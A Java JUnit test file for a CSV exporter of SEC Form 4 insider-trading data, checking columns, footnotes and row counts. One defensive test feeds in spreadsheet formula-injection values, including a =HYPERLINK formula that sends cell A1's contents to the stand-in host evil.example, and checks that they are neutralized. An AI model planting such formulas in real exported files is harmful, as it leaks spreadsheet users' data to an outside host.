package dev.form4.write;

import static dev.form4.write.Form4Fixtures.d;
import static dev.form4.write.Form4Fixtures.n;
import static dev.form4.write.Form4Fixtures.none;
import static dev.form4.write.Form4Fixtures.v;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.form4.Extraction;
import dev.form4.model.Form4;
import dev.form4.model.NonDerivativeTransaction;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class CsvWriterTest {

    private static List<CSVRecord> parse(String csv) throws IOException {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(new StringReader(csv)).getRecords();
    }

    @Test
    void oneRowPerTransactionOrHoldingWithContextAndFootnotes() throws IOException {
        String csv = CsvWriter.toCsv(Form4Fixtures.qualysExtraction());
        assertTrue(csv.startsWith(String.join(",", CsvWriter.HEADER) + "\r\n"), csv);
        List<CSVRecord> rows = parse(csv);
        assertEquals(6, rows.size());
        CSVRecord sale = rows.get(1);
        assertEquals("qualys.md", sale.get("source"));
        assertEquals("QUALYS, INC.", sale.get("issuerName"));
        assertEquals("QLYS", sale.get("issuerTradingSymbol"));
        assertEquals("COURTOT PHILIPPE F; COURTOT FAMILY TRUST", sale.get("reportingOwners"));
        assertEquals("I", sale.get("table"));
        assertEquals("transaction", sale.get("rowKind"));
        assertEquals("2019-11-07", sale.get("transactionDate"));
        assertEquals("36510", sale.get("transactionShares"));
        assertEquals("84.6237", sale.get("transactionPricePerShare"));
        assertEquals("false", sale.get("equitySwapInvolved"));
        assertEquals("", sale.get("expirationDate"), "a Table II column is empty on a Table I row");
        assertEquals("transactionCode:F1;transactionPricePerShare:F2", sale.get("footnotes"));
        CSVRecord holding = rows.get(3);
        assertEquals("holding", holding.get("rowKind"));
        assertEquals("See Footnote", holding.get("natureOfOwnership"));
        CSVRecord option = rows.get(4);
        assertEquals("II", option.get("table"));
        assertEquals("", option.get("exerciseDate"));
        assertEquals("transactionCode:F1;exerciseDate:F9", option.get("footnotes"));
        assertEquals("0", option.get("transactionPricePerShare"), "0.00 is written as its value");
        assertEquals("conversionOrExercisePrice:F4;exerciseDate:F4;expirationDate:F4", rows.get(5).get("footnotes"));
    }

    @Test
    void formulaTextIsNeutralizedButNumbersStayNumbers() throws IOException {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Common Stock\")";
        NonDerivativeTransaction evil = new NonDerivativeTransaction(v(formula), d("2019-11-07"), none(), v("S"),
                v(false), n("100"), n("-5"), v("D"), n("1000"), none(), v("D"), v("@SUM(1+1)\nsecond line, \"quoted\""));
        Form4 form = EdgarXmlWriterTest.withTable1(Form4Fixtures.qualys(), List.of(evil));
        String csv = CsvWriter.toCsv(new Extraction("+evil.md", form, List.of(), null));
        CSVRecord row = parse(csv).get(0);
        assertEquals("'" + formula, row.get("securityTitle"));
        assertEquals("'@SUM(1+1)\nsecond line, \"quoted\"", row.get("natureOfOwnership"), "quoted per RFC 4180, neutralized");
        assertEquals("-5", row.get("transactionPricePerShare"), "a number from a BigDecimal is never prefixed");
        assertEquals("'+evil.md", row.get("source"));
        assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Common Stock\"\")\""), csv);
    }

    @Test
    void seedHasOneRowPerTableRow() throws IOException {
        Extraction seed = new dev.form4.Form4Extractor().extract(java.nio.file.Path.of("testdata/seed/qualys-courtot-2019-11-07.md"));
        List<CSVRecord> rows = parse(CsvWriter.toCsv(seed));
        assertEquals(TableRow.of(seed.form()).size(), rows.size());
        assertTrue(rows.size() >= 14, "10 + 1 Table I rows, 3 Table II rows");
        assertEquals("QLYS", rows.get(0).get("issuerTradingSymbol"));
    }

    @Test
    void headerOnlyForAFormWithoutRows() throws IOException {
        Form4 f = Form4Fixtures.qualys();
        Form4 empty = new Form4("4", f.periodOfReport(), none(), none(), f.issuer(), f.reportingOwners(), none(), none(),
                new dev.form4.model.NonDerivativeTable(List.of(), List.of()),
                new dev.form4.model.DerivativeTable(List.of(), List.of()), List.of(), none(), List.of());
        String csv = CsvWriter.toCsv(new Extraction("x.md", empty, List.of(), null));
        assertEquals(0, parse(csv).size());
        assertEquals(1, csv.split("\r\n").length);
    }
}
